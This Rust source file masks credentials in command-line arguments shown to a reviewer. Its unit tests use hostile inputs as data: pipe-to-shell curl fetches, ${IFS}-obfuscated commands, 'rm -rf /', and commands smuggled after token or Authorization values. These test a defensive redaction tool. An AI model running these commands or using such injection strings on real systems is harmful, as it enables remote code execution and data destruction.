//! What a reviewer sees of the words of a command line. Of what looks like a credential only that is hidden which can be part of one, so
//! that nothing can hide behind it. Pure.

use super::references::with_literals_and_defaults;
use crate::{
    redact::{self, TextKind, is_scheme, is_secret_flag, is_secret_name},
    text::secret::MASK,
};

/// Whether what comes next is a credential, because of what stands before it.
#[derive(Clone, Copy, PartialEq, Eq, Default)]
enum Announced {
    #[default]
    No,
    /// By a flag, a header or a scheme: also after blanks.
    Next,
    /// By `NAME=`.
    Directly,
}

/// The arguments of a command as a reviewer sees them; those that `is_open` knows as they are.
pub(super) fn arguments(arguments: &[String], is_open: impl Fn(&str) -> bool) -> Vec<String> {
    let mut before = Announced::No;
    let shown = arguments.iter().map(|argument| {
        let shown = if is_open(argument) {
            argument.clone()
        } else {
            shown(argument, before)
        };
        before = if is_secret_flag(argument) {
            Announced::Next
        } else {
            Announced::No
        };
        shown
    });
    shown.collect()
}

/// A word of a command line, or several in one.
pub(super) fn text(text: &str) -> String {
    shown(text, Announced::No)
}

fn shown(text: &str, mut announced: Announced) -> String {
    with_literals_and_defaults(text, |literal| {
        if let Some(literal) = literal {
            return masked(literal, &mut announced);
        }
        announced = Announced::No;
        String::new()
    })
}

fn masked(text: &str, announced: &mut Announced) -> String {
    let mut shown = String::with_capacity(text.len());
    for part in text.split_inclusive(|c| !is_of_credential(c)) {
        let last = part.chars().next_back();
        let end = last.filter(|last| !is_of_credential(*last));
        let word = part.strip_suffix(|c| Some(c) == end).unwrap_or(part);
        if !word.is_empty() {
            let next = announces(word, *announced);
            if next == Announced::No && *announced != Announced::No {
                shown.push_str(MASK);
            } else {
                shown.push_str(&redact::masked(word, TextKind::Word));
            }
            *announced = next;
        }
        if let Some(end) = end {
            shown.push(end);
            let goes_on = match announced {
                Announced::No => false,
                Announced::Next => end == ' ' || matches!(end, '"' | '\''),
                Announced::Directly => matches!(end, '"' | '\''),
            };
            if !goes_on {
                *announced = Announced::No;
            }
        }
    }
    shown
}

/// Whether a text is made of what credentials are made of, with a scheme before it or without.
pub(super) fn may_be_credential(text: &str) -> bool {
    let bare = text.trim().split_once(' ');
    let bare = bare.and_then(|(scheme, bare)| is_scheme(scheme).then_some(bare));
    bare.unwrap_or(text).trim().chars().all(is_of_credential)
}

/// Whether a credential can have this character: none that a shell or a programming language reads as more than a part of a word.
fn is_of_credential(c: char) -> bool {
    !(c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '"' | '\''
                | '`'
                | ';'
                | '|'
                | '&'
                | '$'
                | '('
                | ')'
                | '<'
                | '>'
                | '{'
                | '}'
                | '['
                | ']'
                | '\\'
                | ','
        ))
}

fn announces(word: &str, before: Announced) -> Announced {
    match word.as_bytes() {
        [name @ .., end @ (b':' | b'=')] if !name.is_empty() => {
            let name = word.trim_end_matches([':', '=']);
            match (is_secret_name(name), end) {
                (false, _) => Announced::No,
                (true, b'=') => Announced::Directly,
                (true, _) => Announced::Next,
            }
        }
        _ if is_secret_flag(word) => Announced::Next,
        _ if redact::announces(word) || before != Announced::No && is_scheme(word) => {
            Announced::Next
        }
        _ => Announced::No,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(written: &[&str], expected: &[&str]) {
        let written: Vec<String> = written.iter().map(|word| (*word).to_owned()).collect();
        assert_eq!(arguments(&written, |_| false), expected);
    }

    #[test]
    fn a_mask_covers_the_value_and_nothing_behind_it() {
        for (written, expected) in [
            (
                "TOKEN=$(curl -s h/V6|sh) exec x",
                "TOKEN=$(curl -s h/V6|sh) exec x",
            ),
            (
                "TOKEN=`curl -s http://h/V3|sh` x",
                "TOKEN=`curl -s http://h/V3|sh` x",
            ),
            (
                "API_KEY=\"x\" TOKEN=`curl h|sh` y",
                "API_KEY=\"***\" TOKEN=`curl h|sh` y",
            ),
            ("TOKEN=\"`curl h|sh`\" y", "TOKEN=\"`curl h|sh`\" y"),
            ("TOKEN=x;curl h|sh;y", "TOKEN=***;curl h|sh;y"),
            ("TOKEN=x&&curl h", "TOKEN=***&&curl h"),
            ("TOKEN= rm -rf /", "TOKEN= rm -rf /"),
            (
                "Authorization:Bearer 2>/dev/null;touch V7",
                "Authorization:*** 2>/dev/null;touch V7",
            ),
            (
                "Authorization: Bearer x;curl h|sh",
                "Authorization: Bearer ***;curl h|sh",
            ),
            (
                "Bearer:require(\"a\").exec(\"b\")",
                "Bearer:***(\"a\").exec(\"b\")",
            ),
            (
                "PASSWORD=$(curl${IFS}-s${IFS}h|sh)",
                "PASSWORD=$(curl${IFS}-s${IFS}h|sh)",
            ),
            ("${NOPE:-curl h|sh}", "${NOPE:-curl h|sh}"),
            ("curl https://h/#x;evil x", "curl https://h/#***;evil x"),
            (
                "curl https://u:p@h/?token=a;evil",
                "curl https://***@h/?token=***;evil",
            ),
        ] {
            check(&[written], &[expected]);
        }
    }

    #[test]
    fn credentials_of_a_command_line_are_hidden() {
        for (written, expected) in [
            (&["--token", "abc", "x"][..], &["--token", "***", "x"][..]),
            (&["--token", "abc;x"], &["--token", "***;x"]),
            (&["--api-key=abc"], &["--api-key=***"]),
            (&["-e", "GITHUB_TOKEN=abc"], &["-e", "GITHUB_TOKEN=***"]),
            (
                &["Authorization: Bearer abc"],
                &["Authorization: Bearer ***"],
            ),
            (&["--header=X-Api-Key: abc"], &["--header=X-Api-Key: ***"]),
            (&["Authorization: Token abc"], &["Authorization: Token ***"]),
            (
                &["A=1 TOKEN=a KEY='b' --pat c d"],
                &["A=1 TOKEN=*** KEY='***' --pat *** d"],
            ),
            (&["x ghp_0123456789 y"], &["x *** y"]),
            (&["--token", "${T}", "x"], &["--token", "${T}", "x"]),
            (&["--key=${T:-abc}", "x"], &["--key=${T:-***}", "x"]),
            (&["--key ${T} plain"], &["--key ${T} plain"]),
            (
                &["-y", "@a/b@1.2", "/home/me"],
                &["-y", "@a/b@1.2", "/home/me"],
            ),
        ] {
            check(written, expected);
        }
        let written = ["--token", "evil-package"].map(str::to_owned);
        let shown = arguments(&written, |text| text == "evil-package");
        assert_eq!(shown, written, "what is no secret is shown");
    }
}
